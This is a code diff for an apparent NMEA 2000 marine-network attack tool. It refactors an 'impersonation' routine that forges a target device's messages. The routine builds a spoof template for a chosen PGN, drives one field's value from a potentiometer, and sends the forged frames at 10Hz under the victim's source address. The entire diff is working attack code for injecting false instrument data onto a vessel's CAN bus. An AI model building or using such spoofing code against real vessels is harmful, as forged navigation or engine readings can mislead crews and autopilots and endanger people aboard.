@@ -32,13 +32,19 @@ void Attack_Controller::startImpersonate(uint8_t targetAddress, uint32_t targetP
     impTargetAddress = targetAddress;
     impTargetPGN = targetPGN;
     impSelectedFieldIndex = 0;
-    lastImpTime = 0;
 
     for (int i = 0; i < MAX_IMP_FIELDS; i++) {
         impFieldLocked[i] = false;
         impFieldLockedValues[i] = 0.0f;
     }
     getFieldRange(impTargetPGN, 0, impFieldMin, impFieldMax);
+    compileSpoofTemplate();
+
+    // The first spoofed message goes out as soon as it is staged
+    if (impStream >= 0) {
+        txScheduler->setEnabled(impStream, false);
+        txScheduler->setEnabled(impStream, true);
+    }
 }
 
 /**
@@ -50,6 +56,7 @@ void Attack_Controller::startImpersonate(uint8_t targetAddress, uint32_t targetP
  */
 void Attack_Controller::stopImpersonate() {
     impersonateActive = false;
+    if (impStream >= 0) txScheduler->setEnabled(impStream, false);
     impersonatingOwnSensor = false;
     impOwnSensorIndex = 0;
 }
@@ -65,6 +72,7 @@ void Attack_Controller::stopImpersonate() {
 void Attack_Controller::setImpSelectedFieldIndex(int index) {
     impSelectedFieldIndex = index;
     getFieldRange(impTargetPGN, impSelectedFieldIndex, impFieldMin, impFieldMax);
+    if (impersonateActive) compileSpoofTemplate();
 }
 
 /**
@@ -85,46 +93,46 @@ void Attack_Controller::toggleValueLock() {
             impFieldLocked[impSelectedFieldIndex] = true;
             impFieldLockedValues[impSelectedFieldIndex] = impFieldValue;
         }
+        if (impersonateActive) compileSpoofTemplate();
     }
 }
 
 /**
  * @brief Periodic update for the impersonation attack
  *
- * Called during the main update loop when impersonation is active.
- * Updates at approximately 10Hz to:
- * 1. Read the sensor value (unless field is locked)
- * 2. Map the sensor value to the field's valid range
- * 3. Build and send the spoofed message
+ * Called by update() when impersonation is active. The loop scheduler runs
+ * it every TX_STAGE_INTERVAL_MS, and it does nothing until the transmit
+ * scheduler asks for the next message, once per
+ * ATTACK_IMPERSONATE_INTERVAL_MS (10Hz by default). Then it will:
+ * 1. Recompile the spoof template if the target sent a different message
+ * 2. Map the sensor value to the raw range of the selected field (unless
+ *    the field is locked) and write it into the template
+ * 3. Stage the template, sent from the scheduler interrupt
  */
 void Attack_Controller::updateImpersonate() {
     if (!impersonateActive) return;
+    if (impStream < 0 || !txScheduler->needsMessage(impStream)) return;
 
-    unsigned long now = millis();
-
-    // Update at ~10Hz
-    if (now - lastImpTime >= 100) {
-        lastImpTime = now;
-
-        // Read sensor value for current field (unless this field is locked)
-        bool currentFieldLocked = (impSelectedFieldIndex < MAX_IMP_FIELDS) &&
-                                   impFieldLocked[impSelectedFieldIndex];
-
-        if (!currentFieldLocked) {
-            int rawValue = valueSensor->getRawValue();
-            float normalized = rawValue / 1023.0f;
-            impFieldValue = impFieldMin + normalized * (impFieldMax - impFieldMin);
-        } else {
-            impFieldValue = impFieldLockedValues[impSelectedFieldIndex];
-        }
-
-        // Build and send spoofed message with all locked fields applied
-        tN2kMsg N2kMsg;
-        buildSpoofedMessage(N2kMsg, impTargetPGN, impSelectedFieldIndex, impFieldValue);
+    PGNData* pgnData = monitor->getPGNData(impTargetAddress, impTargetPGN);
+    if (pgnData == nullptr) return;
+    if (!spoof.valid || spoofSourceChanged(*pgnData)) {
+        compileSpoofTemplate();
+        if (!spoof.valid) return;
+    }
 
-        // Send via CAN1 with -1 device index to preserve our spoofed source address
-        nmea2000_can1->SendMsg(N2kMsg, -1);
+    if (spoof.hasLive) {
+        // Linear in raw counts, so the pot covers the range in even steps
+        int32_t rawValue = valueSensor->getRawValue();
+        int32_t raw = spoof.liveRawMin +
+                      (int32_t)((int64_t)(spoof.liveRawMax - spoof.liveRawMin) * rawValue / 1023);
+        writePGNFieldPatch(spoof.live, spoof.msg.Data, raw);
+        impFieldValue = raw * spoof.liveScale + spoof.liveOffset;
+    } else if (impSelectedFieldIndex < MAX_IMP_FIELDS && impFieldLocked[impSelectedFieldIndex]) {
+        impFieldValue = impFieldLockedValues[impSelectedFieldIndex];
     }
+
+    // The scheduler sends it with the message's own, spoofed source address
+    txScheduler->stage(impStream, spoof.msg);
 }
 
 
@@ -143,23 +151,24 @@ void Attack_Controller::updateImpersonate() {
 std::vector<uint32_t>& Attack_Controller::buildImpPGNList(uint8_t deviceAddress) {
     impPGNList.clear();
 
-    DeviceInfo* device = monitor->getDevice(deviceAddress);
-    if (device == nullptr) return impPGNList;
+    int pgnCount = monitor->getPGNCount(deviceAddress);
 
-    for (auto& pair : device->pgns) {
-        uint32_t pgn = pair.first;
-        PGNData& pgnData = pair.second;
+    for (int i = 0; i < pgnCount; i++) {
+        uint32_t pgn = monitor->getPGNDataAt(deviceAddress, i)->pgn;
 
-        // Skip PGNs with no parsed fields
-        if (pgnData.fields.empty()) {
+        // Only include PGNs that have specific impersonation support
+        // Uses centralized isImpersonatablePGN from pgn_helpers
+        if (!isImpersonatablePGN(pgn)) {
             continue;
         }
 
-        // Only include PGNs that have specific impersonation support
-        // Uses centralized isImpersonatablePGN from pgn_helpers
-        if (isImpersonatablePGN(pgn)) {
-            impPGNList.push_back(pgn);
+        // Skip PGNs with no parsed fields (decoded on demand by the monitor)
+        PGNData* pgnData = monitor->getDecodedPGNData(deviceAddress, pgn);
+        if (pgnData == nullptr || pgnData->fields.empty()) {
+            continue;
         }
+
+        impPGNList.push_back(pgn);
     }
 
     return impPGNList;
@@ -176,44 +185,26 @@ std::vector<uint32_t>& Attack_Controller::buildImpPGNList(uint8_t deviceAddress)
  */
 int Attack_Controller::getImpersonatablePGNCount(uint8_t deviceAddress) {
     // Count impersonatable PGNs without modifying the internal impPGNList
-    DeviceInfo* device = monitor->getDevice(deviceAddress);
-    if (device == nullptr) return 0;
+    int pgnCount = monitor->getPGNCount(deviceAddress);
 
     int count = 0;
-    for (auto& pair : device->pgns) {
-        uint32_t pgn = pair.first;
-        PGNData& pgnData = pair.second;
-
-        // Skip PGNs with no parsed fields
-        if (pgnData.fields.empty()) continue;
+    for (int i = 0; i < pgnCount; i++) {
+        uint32_t pgn = monitor->getPGNDataAt(deviceAddress, i)->pgn;
 
         // Only count PGNs that have specific impersonation support
         // Uses centralized isImpersonatablePGN from pgn_helpers
-        if (isImpersonatablePGN(pgn)) {
-            count++;
-        }
+        if (!isImpersonatablePGN(pgn)) continue;
+
+        // Skip PGNs with no parsed fields (decoded on demand by the monitor)
+        PGNData* pgnData = monitor->getDecodedPGNData(deviceAddress, pgn);
+        if (pgnData == nullptr || pgnData->fields.empty()) continue;
+
+        count++;
     }
     return count;
 }
 
 
-/**
- * @brief Gets the editable field names for a PGN
- *
- * Returns a list of human-readable field names for the specified PGN
- * that can be modified during impersonation.
- *
- * @param pgn The PGN to get field names for
- * @return std::vector<String> List of field names
- *
- * @note Delegates to centralized helper function for consistency
- * across the codebase.
- */
-std::vector<String> Attack_Controller::getEditableFieldNames(uint32_t pgn) {
-    // Delegate to centralized helper function
-    return getPGNFieldNames(pgn);
-}
-
 /**
  * @brief Gets the count of editable fields for a PGN
  *